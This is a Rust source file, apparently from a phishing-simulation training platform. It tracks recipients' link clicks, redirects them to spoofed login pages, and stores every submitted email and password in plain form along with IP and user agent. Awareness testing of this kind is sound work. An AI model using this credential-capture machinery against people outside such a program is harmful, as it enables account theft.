//! Tracking and capture services.
//!
//! A (recipient, campaign, platform) triple moves `unclicked → clicked`
//! exactly once; the redirect to the spoofed page is unconditional and
//! repeatable. Credential capture is the opposite: every submission is a
//! new row, and missing upstream entities are tolerated because the
//! training signal outweighs referential completeness.

use chrono::Utc;
use phishline_core::pages::LoginPageRenderer;
use phishline_core::types::{ClickEvent, CredentialEvent};
use phishline_core::{PhishlineError, PhishlineResult};
use phishline_store::{CampaignStore, DirectoryStore, EventStore};
use std::sync::Arc;
use tracing::{debug, info};
use uuid::Uuid;

/// Caller context recorded on every event.
#[derive(Debug, Clone)]
pub struct RequestMeta {
    pub ip: String,
    pub user_agent: String,
}

pub struct TrackingService {
    directory: Arc<DirectoryStore>,
    campaigns: Arc<CampaignStore>,
    events: Arc<EventStore>,
    pages: LoginPageRenderer,
}

impl TrackingService {
    pub fn new(
        directory: Arc<DirectoryStore>,
        campaigns: Arc<CampaignStore>,
        events: Arc<EventStore>,
        pages: LoginPageRenderer,
    ) -> Self {
        Self {
            directory,
            campaigns,
            events,
            pages,
        }
    }

    /// Handle an inbound click. Unknown recipient or campaign is a lookup
    /// error with no write. Otherwise insert-or-ignore the ClickEvent and
    /// return the spoofed-page path to redirect to — on first and repeat
    /// clicks alike.
    pub fn track_click(
        &self,
        recipient_id: Uuid,
        campaign_id: Uuid,
        platform: &str,
        meta: &RequestMeta,
    ) -> PhishlineResult<String> {
        if self.directory.recipient(recipient_id).is_none() {
            return Err(PhishlineError::NotFound("Recipient not found".to_string()));
        }
        if self.campaigns.get(campaign_id).is_none() {
            return Err(PhishlineError::NotFound("Campaign not found".to_string()));
        }

        let inserted = self.events.record_click(
            recipient_id,
            campaign_id,
            platform,
            ClickEvent {
                recipient_id: Some(recipient_id),
                campaign_id: Some(campaign_id),
                platform: platform.to_string(),
                ip_address: meta.ip.clone(),
                user_agent: meta.user_agent.clone(),
                timestamp: Utc::now(),
            },
        );

        if inserted {
            metrics::counter!("tracking.clicks_recorded").increment(1);
            info!(
                %recipient_id,
                %campaign_id,
                platform,
                ip = %meta.ip,
                "Click recorded"
            );
        } else {
            metrics::counter!("tracking.clicks_repeated").increment(1);
            debug!(%recipient_id, %campaign_id, platform, "Repeat click, not logged");
        }

        Ok(format!(
            "/login-template/{}/{}/{}/",
            recipient_id, campaign_id, platform
        ))
    }

    /// Record a credential submission. Lookups are best-effort: a deleted
    /// recipient or campaign leaves a null reference, never an error —
    /// the spoofed page may be visited long after the campaign's data
    /// changed.
    pub fn capture(
        &self,
        recipient_id: Uuid,
        campaign_id: Uuid,
        platform: &str,
        email: String,
        password: String,
        meta: &RequestMeta,
    ) {
        let recipient_ref = self.directory.recipient(recipient_id).map(|r| r.id);
        let campaign_ref = self.campaigns.get(campaign_id).map(|c| c.id);

        self.events.record_credential(CredentialEvent {
            recipient_id: recipient_ref,
            campaign_id: campaign_ref,
            platform: platform.to_string(),
            email,
            password,
            ip_address: meta.ip.clone(),
            user_agent: meta.user_agent.clone(),
            timestamp: Utc::now(),
        });

        metrics::counter!("tracking.credentials_captured").increment(1);
        info!(
            %recipient_id,
            %campaign_id,
            platform,
            ip = %meta.ip,
            "Credential submission captured"
        );
    }

    /// Render the platform's spoofed login page with the triple threaded
    /// into the capture form. The ids are passed through unresolved, as
    /// the page must render even for stale links.
    pub fn login_page(
        &self,
        recipient_id: Uuid,
        campaign_id: Uuid,
        platform: &str,
    ) -> PhishlineResult<String> {
        self.pages
            .render(platform, recipient_id, campaign_id)
            .ok_or_else(|| {
                PhishlineError::Template(format!("no login template for platform '{}'", platform))
            })
    }

    pub fn clicks(&self) -> Vec<ClickEvent> {
        self.events.list_clicks()
    }

    pub fn credentials(&self) -> Vec<CredentialEvent> {
        self.events.list_credentials()
    }
}
